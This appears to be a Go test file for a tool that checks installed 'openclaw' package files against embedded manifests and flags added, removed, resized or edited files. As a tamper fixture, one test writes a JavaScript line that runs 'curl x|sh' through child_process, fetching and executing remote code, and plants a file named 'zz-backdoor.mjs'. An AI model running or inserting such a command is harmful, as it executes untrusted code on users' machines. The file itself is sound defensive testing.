package manifest

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/clawgov/clawgov/internal/advisory"
	"github.com/clawgov/clawgov/internal/manifest/manifesttest"
)

func sum(s string) (out [32]byte) {
	copy(out[:], s)
	return
}

func sample(t testing.TB) *Set {
	t.Helper()
	s := &Set{Package: "openclaw", Releases: map[string]*Release{}}
	for _, v := range []string{"2026.1.1", "2026.1.2"} {
		files := []File{{Path: ".openclaw-lifecycle-pending", Size: 8}, {Path: "dist/a-XXXX.mjs", Size: 10}, {Path: "dist/index.js", Size: 3},
			{Path: "node_modules/dep/index.js", Size: 4}, {Path: "package.json", Size: 2}}
		sums := [][32]byte{sum("m"), sum("a" + v), sum("i"), sum("d"), sum("p" + v)}
		r, err := BuildRelease(v, files, sums)
		if err != nil {
			t.Fatal(err)
		}
		s.Releases[v] = r
	}
	return s
}

func TestRoundTrip(t *testing.T) {
	s := sample(t)
	b, err := Encode(s)
	if err != nil {
		t.Fatal(err)
	}
	b2, _ := Encode(s)
	if !bytes.Equal(b, b2) {
		t.Fatal("encoding is not deterministic")
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	for v, want := range s.Releases {
		r := got.Releases[v]
		if r == nil || r.Tree != want.Tree || r.Decisive != want.Decisive || !slices.Equal(r.Files, want.Files) {
			t.Errorf("%s: got %+v want %+v", v, r, want)
		}
		one, ok, err := DecodeRelease(b, v)
		if err != nil || !ok || !slices.Equal(one.Files, want.Files) {
			t.Errorf("DecodeRelease %s: %v %v", v, ok, err)
		}
	}
	if _, ok, err := DecodeRelease(b, "2099.1.1"); ok || err != nil {
		t.Errorf("unknown release: ok=%v err=%v", ok, err)
	}
	// Tags are kept for decisive files only.
	for _, f := range got.Releases["2026.1.1"].Files {
		if (f.Tag != 0) != Decisive(f.Path) {
			t.Errorf("%s: tag %x, decisive %v", f.Path, f.Tag, Decisive(f.Path))
		}
	}
}

func TestDecodeRejectsCorruptData(t *testing.T) {
	b, _ := Encode(sample(t))
	for name, bad := range map[string][]byte{
		"empty":     nil,
		"not gzip":  []byte("CGMF"),
		"truncated": b[:len(b)/2],
		"flipped":   append(append([]byte{}, b[:len(b)-12]...), b[len(b)-12]^0xff),
	} {
		if _, err := Decode(bad); err == nil {
			t.Errorf("%s: decoded", name)
		}
	}
}

func TestDecisive(t *testing.T) {
	for p, want := range map[string]bool{
		"package.json": true, "openclaw.mjs": true, "dist/index.js": true, "dist/build-info.json": true,
		"dist/abort-DZw7ue_7.mjs": false, "docs/x.md": false, "dist/control-ui/a.js": false,
		".openclaw-lifecycle-pending": false, "node_modules/x/index.js": false,
	} {
		if Decisive(p) != want {
			t.Errorf("Decisive(%q) = %v", p, !want)
		}
	}
}

// TestEmbeddedCoversTable: the embedded data decodes, names only official
// releases, and covers the pinned release the tests install.
func TestEmbeddedCoversTable(t *testing.T) {
	vs, err := EmbeddedVersions()
	if err != nil {
		t.Fatal(err)
	}
	rel, err := advisory.EmbeddedReleases()
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range vs {
		pv, err := advisory.ParseVersion(v)
		if err != nil {
			t.Errorf("manifest version %q: %v", v, err)
			continue
		}
		if _, ok := rel.Lookup(pv); !ok {
			t.Errorf("manifest covers %s, which is not in the release table", v)
		}
	}
	if !slices.Contains(vs, manifesttest.Version) {
		t.Fatalf("manifest does not cover %s", manifesttest.Version)
	}
	t.Logf("file manifest covers %d of %d releases in the table (%d bytes embedded)", len(vs), len(rel.Releases), len(embedded))
	r, ok, err := Embedded(manifesttest.Version)
	if err != nil || !ok || len(r.Files) < 1000 {
		t.Fatalf("Embedded(%s): %v %v", manifesttest.Version, ok, err)
	}
}

func realCopy(t *testing.T) (string, *Release) {
	t.Helper()
	src := manifesttest.RealInstall(t)
	dst := filepath.Join(t.TempDir(), "openclaw")
	manifesttest.Copy(t, src, dst)
	r, ok, err := Embedded(manifesttest.Version)
	if err != nil || !ok {
		t.Fatalf("no manifest for %s: %v", manifesttest.Version, err)
	}
	return dst, r
}

// firstFile is the first file of the release under dir with the suffix,
// that is not decisive (when decisive is false).
func firstFile(t *testing.T, r *Release, prefix, suffix string, decisive bool) string {
	t.Helper()
	for _, f := range r.Files {
		if strings.HasPrefix(f.Path, prefix) && strings.HasSuffix(f.Path, suffix) && Decisive(f.Path) == decisive && f.Size > 64 {
			return f.Path
		}
	}
	t.Fatalf("no %s*%s file", prefix, suffix)
	return ""
}

// TestVerifyRealInstall: the real installed 2026.9.6 passes, in both modes.
func TestVerifyRealInstall(t *testing.T) {
	root := manifesttest.RealInstall(t)
	r, _, err := Embedded(manifesttest.Version)
	if err != nil || r == nil {
		t.Fatal(err)
	}
	res, err := Verify(root, r, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !res.OK() || res.Compared < 10000 || res.Hashed < 100 || res.Hashed > 1000 || res.Dependencies == 0 {
		t.Fatalf("real install: %+v", res)
	}
	full, err := Verify(root, r, Options{Full: true})
	if err != nil {
		t.Fatal(err)
	}
	if !full.OK() || full.Hashed != full.Compared {
		t.Fatalf("real install, full: ok=%v hashed %d of %d", full.OK(), full.Hashed, full.Compared)
	}
}

// TestVerifyTampered: a modified dist file, an added file and a removed
// file are each found and named; a same-size edit of an entry point is
// found by its hash; a same-size edit of a chunk only in full mode.
func TestVerifyTampered(t *testing.T) {
	root, r := realCopy(t)
	chunk := firstFile(t, r, "dist/", ".mjs", false)
	removed := firstFile(t, r, "docs/", ".md", false)
	manifesttest.Replace(t, filepath.Join(root, chunk), []byte("import('child_process').then(c=>c.exec('curl x|sh'))\n"))
	manifesttest.Replace(t, filepath.Join(root, "dist/zz-backdoor.mjs"), []byte("evil"))
	if err := os.Remove(filepath.Join(root, removed)); err != nil {
		t.Fatal(err)
	}
	// An extra dependency folder is npm's business, not the package's.
	if err := os.MkdirAll(filepath.Join(root, "node_modules/zz-extra-dep"), 0o755); err != nil {
		t.Fatal(err)
	}
	manifesttest.Replace(t, filepath.Join(root, "node_modules/zz-extra-dep/index.js"), nil)
	res, err := Verify(root, r, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK() || !slices.Equal(res.Added, []string{"dist/zz-backdoor.mjs"}) || !slices.Equal(res.Removed, []string{removed}) ||
		len(res.Resized) != 1 || res.Resized[0].Path != chunk || res.Hashed != 0 {
		t.Fatalf("tampered copy: %+v", res)
	}
}

func TestVerifySameSizeEdits(t *testing.T) {
	root, r := realCopy(t)
	entry := "dist/index.js"
	manifesttest.Replace(t, filepath.Join(root, entry), manifesttest.SameSizeEdit(t, filepath.Join(root, entry)))
	res, err := Verify(root, r, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK() || !slices.Equal(res.Modified, []string{entry}) || len(res.Resized)+len(res.Added)+len(res.Removed) != 0 {
		t.Fatalf("same-size edit of %s: %+v", entry, res)
	}

	root2, _ := realCopy(t)
	chunk := firstFile(t, r, "dist/", ".mjs", false)
	manifesttest.Replace(t, filepath.Join(root2, chunk), manifesttest.SameSizeEdit(t, filepath.Join(root2, chunk)))
	if res, err := Verify(root2, r, Options{}); err != nil || !res.OK() {
		t.Fatalf("same-size chunk edit, default mode (documented as not detected): %+v %v", res, err)
	}
	res, err = Verify(root2, r, Options{Full: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK() || !res.Unlocated {
		t.Fatalf("same-size chunk edit, full mode: %+v", res)
	}
}

func TestVerifySymlinkedFile(t *testing.T) {
	root, r := realCopy(t)
	p := filepath.Join(root, "openclaw.mjs")
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/tmp/elsewhere.mjs", p); err != nil {
		t.Fatal(err)
	}
	res, err := Verify(root, r, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.OK() || !slices.Equal(res.NotRegular, []string{"openclaw.mjs"}) {
		t.Fatalf("symlinked launcher: %+v", res)
	}
}

func TestUnknownVersion(t *testing.T) {
	if _, ok, err := Embedded("2026.99.1"); ok || err != nil {
		t.Fatalf("unknown version: ok=%v err=%v", ok, err)
	}
}

// BenchmarkVerify: the default check over the real install (walk, sizes,
// decisive hashes), including decoding its release from the embedded data.
func BenchmarkVerify(b *testing.B) {
	root := manifesttest.RealInstall(b)
	load := func() (*Release, bool, error) { return DecodeRelease(embedded, manifesttest.Version) }
	for b.Loop() {
		if res, ok, err := VerifyLoad(root, load, Options{}); err != nil || !ok || !res.OK() {
			b.Fatal(err)
		}
	}
}

// BenchmarkDecodeRelease: decoding one release from the embedded data.
func BenchmarkDecodeRelease(b *testing.B) {
	for b.Loop() {
		if _, ok, err := DecodeRelease(embedded, manifesttest.Version); err != nil || !ok {
			b.Fatal(err)
		}
	}
}

func FuzzDecode(f *testing.F) {
	b, _ := Encode(sample(f))
	f.Add(b)
	f.Add([]byte{})
	f.Add(b[:len(b)/2])
	f.Fuzz(func(t *testing.T, data []byte) {
		s, err := Decode(data)
		if err != nil {
			return
		}
		for _, r := range s.Releases {
			for i := 1; i < len(r.Files); i++ {
				if r.Files[i-1].Path >= r.Files[i].Path {
					t.Fatal("decoded files out of order")
				}
			}
		}
	})
}
